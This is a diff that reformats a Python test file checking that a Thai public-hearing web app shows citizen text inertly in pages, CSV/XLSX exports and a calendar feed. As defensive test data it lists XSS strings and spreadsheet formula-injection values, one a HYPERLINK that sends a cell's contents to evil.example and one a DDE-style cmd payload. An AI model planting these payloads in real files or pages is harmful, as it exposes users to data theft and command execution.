@@ -1,6 +1,7 @@
 """Text that citizens and staff write is shown as text: in every page (script and markup inert),
 in the CSV and XLSX exports (nothing a spreadsheet would run as a formula) and in the calendar
 feed (no property smuggled in through a line break)."""
+
 import csv
 import io
 
@@ -21,8 +22,12 @@ THAI_SCRIPT = f"อยากให้มีถนนลาดยาง{SCRIPT}�
 THAI_IMAGE = f"ศาลาประชาคม{IMAGE}หมู่ 3"
 LATIN = f"Road repairs {SCRIPT} and {IMAGE}"
 LIVE_MARKUP = ("<script>alert(1)", "<img src=x onerror")
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "@SUM(1+1)*cmd|' /C calc'!A0",
-            "+66 81 234 5678", "-1+1|cmd")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+66 81 234 5678",
+    "-1+1|cmd",
+)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -76,8 +81,13 @@ def test_pages_show_markup_as_text(app, hostile_world):
             if "&lt;script&gt;alert(1)" in body:
                 escaped_on.add(rule.endpoint)
     # the payloads did reach the pages that show them, as text
-    assert {"hearings.detail", "hearing_staff.manage", "inputs.receipt", "review.input_detail",
-            "revisions.edit"} <= escaped_on
+    assert {
+        "hearings.detail",
+        "hearing_staff.manage",
+        "inputs.receipt",
+        "review.input_detail",
+        "revisions.edit",
+    } <= escaped_on
 
 
 def _input_export_rows(client, cycle_id, kind):
@@ -108,7 +118,9 @@ def test_aggregate_exports_hold_no_formulas(app, hostile_world):
     workbook = load_workbook(io.BytesIO(client.get(f"/review/cycles/{cycle_id}/export/aggregates.xlsx").data))
     cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
     assert all(cell.data_type != "f" for cell in cells)
-    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
+    assert not [
+        cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
+    ]
     assert any(isinstance(cell.value, str) and IMAGE in cell.value for cell in cells)  # the issue's title
     assert "'=1+1 การบริหารจัดการน้ำ" in [cell.value for cell in cells]
 
@@ -133,15 +145,18 @@ def test_calendar_feed_keeps_text_in_its_property(app, hostile_world):
 def test_submitted_markup_comes_back_as_text(app, hostile_world, client):
     """Through the citizen's own form and the API, then on the receipt page."""
     url = f"/hearings/{hostile_world['hearing'].id}/input"
-    response = client.post(url, data=input_form_data(client, url, text=THAI_SCRIPT + " " + IMAGE,
-                                                     village=THAI_IMAGE))
+    response = client.post(
+        url, data=input_form_data(client, url, text=THAI_SCRIPT + " " + IMAGE, village=THAI_IMAGE)
+    )
     assert response.status_code in (302, 303)
     receipt_page = client.get(response.headers["Location"]).get_data(as_text=True)
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in receipt_page
     for live in LIVE_MARKUP:
         assert live not in receipt_page
-    answered = client.post(f"/api/v1/hearings/{hostile_world['hearing'].id}/inputs",
-                           json={"text": LATIN + " อยากให้มีไฟส่องสว่าง", "sector": "citizen"})
+    answered = client.post(
+        f"/api/v1/hearings/{hostile_world['hearing'].id}/inputs",
+        json={"text": LATIN + " อยากให้มีไฟส่องสว่าง", "sector": "citizen"},
+    )
     assert answered.status_code == 201
     receipt = answered.get_json()["receipt"]
     page = client.get(f"/receipts/{receipt}").get_data(as_text=True)
